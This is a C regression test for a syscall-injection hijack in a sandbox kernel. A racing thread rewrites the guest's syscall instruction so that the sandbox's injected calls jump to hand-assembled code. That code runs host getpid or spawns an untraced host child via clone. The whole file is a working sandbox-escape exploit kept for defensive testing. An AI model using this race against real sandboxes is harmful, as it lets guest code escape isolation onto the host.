/* Regression test for the injection hijack: a sibling thread rewrote the
 * guest's own syscall instruction, which the sentry used to re-run for its
 * 2nd and 3rd injected calls (mmap and close of a donated fd), and jumped
 * to code that ran a host syscall of its choosing. Prints "race not won"
 * when no hijack succeeded. (Found by review; kept as a barrier test.) */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <signal.h>
static volatile uint8_t *page;
static int mode;
static void *writer(void *a)
{
	for (;;) {
		while (!page[0x800])
			;
		for (volatile int i = 0; i < 3000; i++)
			;
		/* One store for both bytes: a thread running the code while
		 * two byte stores landed could fetch a torn jmp and die of
		 * SIGSEGV, which is the test's own race, not a hijack. */
		*(volatile uint16_t *)(page + 7) =
			0x37eb; /* jmp +0x37 -> attacker code at 0x40 */
		page[0x800] = 0;
	}
}
static long call_mmap(int fd)
{
	long ret;
	register long r10 asm("r10") = MAP_PRIVATE;
	register long r8 asm("r8") = fd;
	register long r9 asm("r9") = 0;
	void (*fn)(void) = (void (*)(void))page;
	asm volatile("call *%[fn]"
		     : "=a"(ret), "+r"(r10), "+r"(r8), "+r"(r9)
		     : [fn] "r"(fn), "a"(9L), "D"(0L), "S"(4096L),
		       "d"((long)PROT_READ)
		     : "rcx", "r11", "memory");
	return ret;
}
int main(int argc, char **argv)
{
	mode = argc > 1 ? atoi(argv[1]) : 1;
	int fd = open("/bin/ls", O_RDONLY);
	page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint8_t a_code[] = { 0xc6, 0x05, 0xf9,
			     0x07, 0x00, 0x00,
			     0x01, /* movb $1, flag(%rip) */
			     0x0f, 0x05, /* X: syscall */ 0xc3 /* ret */ };
	uint8_t getpid_code[] = { 0xb8, 39, 0, 0, 0, 0x0f, 0x05, 0xc3 };
	uint8_t clone_code[] = { 0xb8,
				 56,
				 0,
				 0,
				 0, /* mov $SYS_clone,%eax */
				 0xbf,
				 0x11,
				 0x00,
				 0x80,
				 0x00, /* mov $(CLONE_UNTRACED|SIGCHLD),%edi */
				 0x31,
				 0xf6,
				 0x31,
				 0xd2,
				 0x45,
				 0x31,
				 0xd2,
				 0x45,
				 0x31,
				 0xc0,
				 0x0f,
				 0x05,
				 0x48,
				 0x85,
				 0xc0,
				 0x74,
				 0x01,
				 0xc3,
				 /* child: */ 0xb8,
				 34,
				 0,
				 0,
				 0,
				 0x0f,
				 0x05,
				 0xeb,
				 0xf7 /* pause loop */ };
	memcpy((void *)page, a_code, sizeof(a_code));
	if (mode == 1)
		memcpy((void *)page + 0x40, getpid_code, sizeof(getpid_code));
	else
		memcpy((void *)page + 0x40, clone_code, sizeof(clone_code));
	pthread_t th;
	pthread_create(&th, 0, writer, 0);
	int vpid = getpid();
	printf("virtual getpid() = %d\n", vpid);
	for (int i = 0; i < 20000; i++) {
		*(volatile uint16_t *)(page + 7) = 0x050f; /* syscall */
		long r = call_mmap(fd);
		/* The thread itself may reach X after the writer patched it
		 * (preempted between the movb and the syscall): then it jumps
		 * to the code at 0x40 as ordinary guest code, whose syscall
		 * the sentry emulates. That is no hijack: getpid gives the
		 * virtual pid, clone a child the sentry knows. */
		if (mode == 1 && r == vpid)
			continue;
		if (mode == 2 && r > 0 && r < 0x100000 &&
		    waitpid((pid_t)r, NULL, WNOHANG) == 0) {
			kill((pid_t)r, SIGKILL);
			waitpid((pid_t)r, NULL, 0);
			continue;
		}
		if (r > 0 && r < 0x100000) {
			printf("attempt %d: the hijacked injection returned %ld\n",
			       i, r);
			if (mode == 1)
				printf("  -> host getpid() ran natively: %ld is this task's pid in the reaper's namespace\n",
				       r);
			else
				printf("  -> clone(CLONE_UNTRACED) ran on the host: untraced child %ld (reaper-ns pid)\n",
				       r);
			fflush(stdout);
			if (mode == 2)
				sleep(argc > 2 ? atoi(argv[2]) : 1);
			return 0;
		}
		if (r > 0)
			munmap((void *)r, 4096);
	}
	puts("race not won");
	return 1;
}
